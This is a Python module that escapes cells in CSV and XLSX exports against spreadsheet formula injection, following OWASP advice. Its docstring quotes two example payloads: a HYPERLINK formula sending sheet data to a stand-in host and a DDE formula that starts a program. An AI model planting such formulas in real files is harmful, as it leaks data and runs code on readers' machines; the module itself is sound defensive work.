"""Every CSV and XLSX file the product writes goes through here, so no cell can attack its reader.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example/?d="&A1)`` sends the sheet's data away; ``=cmd|' /C calc'!A0``
starts a program), and a leading tab or carriage return can hide such a start. Text that reaches
an export comes from borrowers' words, imported files and query strings, so every text cell that
starts with one of these characters is prefixed with an apostrophe, which spreadsheet programs
read as "this is text" (the OWASP "CSV injection" advice). Numbers and dates are left as they
are: a negative number is a number, not text.

:func:`csv_text` writes CSV; :func:`xlsx_bytes` saves a workbook after escaping every cell in it,
however the cells were written. A test (``tests/apps/common/test_spreadsheets.py``) checks that
no other module writes CSV or saves a workbook.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """``value`` as a spreadsheet reads it as text: an apostrophe before a formula's start."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def spreadsheet_cell(value: Any) -> Any:
    """A cell value: text escaped (:func:`spreadsheet_text`), anything else unchanged."""
    return spreadsheet_text(value) if isinstance(value, str) else value


def csv_text(rows: Iterable[Sequence[Any]], *, bom: bool = True) -> str:
    """Rows as CSV text, every text cell escaped; with a BOM so Excel reads it as UTF-8."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([spreadsheet_cell(value) for value in row])
    return out.getvalue()


def xlsx_bytes(book: Any) -> bytes:
    """Save an openpyxl workbook as .xlsx bytes, every text cell escaped first.

    openpyxl stores a string that starts with ``=`` as a formula (``data_type == "f"``); the
    escaped value is plain text.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    cell.value = spreadsheet_text(cell.value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
